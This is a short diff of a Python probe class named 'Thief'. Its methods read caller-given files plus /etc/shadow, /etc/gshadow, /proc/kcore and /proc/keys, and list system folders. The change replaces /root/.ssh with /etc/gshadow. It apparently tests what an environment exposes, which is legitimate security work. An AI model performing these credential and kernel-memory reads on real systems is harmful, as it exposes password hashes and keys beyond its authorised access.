@@ -91,7 +91,7 @@ class Thief(line_probe.Probe):
         return {"won": [*_list(by_link), *_list(direct)]}
 
     def other_files(self, job: LineJob, paths: list[str]) -> dict[str, object]:
-        return _won(**{path: Path(path).read_bytes for path in [*paths, "/etc/shadow", "/root/.ssh", "/proc/kcore", "/proc/keys"]})
+        return _won(**{path: Path(path).read_bytes for path in [*paths, "/etc/shadow", "/etc/gshadow", "/proc/kcore", "/proc/keys"]})
 
     def folders(self, job: LineJob, paths: list[str]) -> dict[str, object]:
         return _won(**{path: lambda path=path: os.listdir(path) for path in [*paths, "/sys", "/run", "/var", "/boot"]})
